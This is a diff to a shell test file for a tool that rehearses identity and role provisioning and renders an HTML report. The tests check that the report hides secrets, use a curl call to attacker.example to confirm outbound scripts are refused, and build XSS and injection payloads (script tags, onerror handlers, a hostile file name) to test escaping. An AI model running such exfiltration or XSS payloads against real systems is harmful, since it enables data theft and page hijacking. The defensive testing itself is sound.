@@ -20,8 +20,33 @@ tenants() {
     sed -n 's|^/\([0-9a-f-]*\)/oauth2/.*|\1|p' | sort -u
 }
 
-@test "contoso" {
-  good contoso
+# What of the page of result.json a browser shows. Nothing secret is on it, and all the rest is.
+page_is_right() {
+  local secrets='password=|assertion=|refresh_token|eyJ|Bearer '
+  run -1 grep -E "$secrets" "$1"
+  # a password is sent and tokens are exchanged, so there is something not to be shown
+  jq -e '[.phases[].calls[] | select(.target | endswith("/oauth2/v2.0/token"))] | length > 0 and all(has("body") | not)' result.json
+  if ! command -v chromium >/dev/null; then
+    echo '# chromium is not installed: the page was not opened' >&3
+    return 0
+  fi
+  LC_ALL=C.UTF-8 /usr/bin/python3 "$SRCDIR/tests/cli/page.py" values result.json >values.json
+  LC_ALL=C.UTF-8 /usr/bin/python3 "$SRCDIR/tests/cli/page.py" check "$1" values.json
+}
+
+@test "contoso, with a page into a home that is hidden meanwhile" {
+  export HOME=$BATS_TEST_TMPDIR/home
+  mkdir "$HOME"
+  good contoso --report "$HOME/page.html"
+  [ "$(ls -A "$HOME")" = page.html ]
+  [ "$(stat -c %a "$HOME/page.html")" = 644 ]
+  grep -q 'The rehearsal passed' "$HOME/page.html"
+  jq -e '.proven and (.result | [.identities, .assignments, .connections | length] == [1, 2, 1])' result.json
+  # changes have their body, laid out; the read of a role's name has none
+  jq -e '[.phases[] | select(.kind == "provision") | .calls[] | select(.write and has("body")) | .body | fromjson] |
+    length >= 4 and any(.properties.roleDefinitionId != null)' result.json
+  jq -e '[.phases[].calls[] | select(.write | not) | has("body")] | any | not' result.json
+  page_is_right "$HOME/page.html"
 }
 
 @test "service-principal, by the administrators" {
@@ -72,10 +97,27 @@ with_line() {
 }
 
 @test "a script that calls another host is refused, named, and the rehearsal fails" {
-  with_line '  curl -sS https://attacker.example/collect || true; exit 9'
-  run -1 --separate-stderr "$TOOL" rehearse "$SRCDIR/examples/contoso.ini" --templates templates --json
-  jq -e '.good | not' <<<"$output"
-  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated; it ended with status 9"' <<<"$output"
+  with_line '  curl -sS https://attacker.example/collect || true; printf "%b\n" "<script>document.title=1</script>\\033[2J"; exit 9'
+  # what failed has a page, too; here of a description in which all that can be nasty is
+  hostile_description >"$nasty"
+  echo '<!DOCTYPE html>an older page' >page.html
+  run -1 --separate-stderr "$TOOL" rehearse "$nasty" --templates templates --json --report page.html
+  printf '%s\n' "$output" >result.json
+  jq -e '.good | not' result.json
+  jq -e '.phases[-1].why == "it tried to reach attacker.example, which is not simulated; it ended with status 9"' result.json
+  jq -e --arg ini "$nasty" '.ini == $ini and .review[0].name == "\"><img src=x onerror=\"document.title=1\"> it'"'"'s & שלום"' result.json
+  grep -q 'The rehearsal failed' page.html
+  page_is_right page.html
+}
+
+# The name of its file is a nasty one, too.
+nasty='"><script>document.title=1<!--.ini'
+
+hostile_description() {
+  sed -e 's|^\(name *= \)@/etc/passwd.*|\1"><img src=x onerror="document.title=1"> it'"'"'s \& שלום|' \
+    -e 's|^\(name *= \)$(touch.*|\1<svg onload="document.title=1"> {{{ini}}}|' \
+    -e 's|^\(roles *= \)[^@]*|\1<b onclick="document.title=1">\& |' \
+    -e 's|^\(description *= \).*|\1</title><script>document.title=1</script>|' "$SRCDIR/examples/nasty.ini"
 }
 
 @test "nothing connects elsewhere than to this machine" {
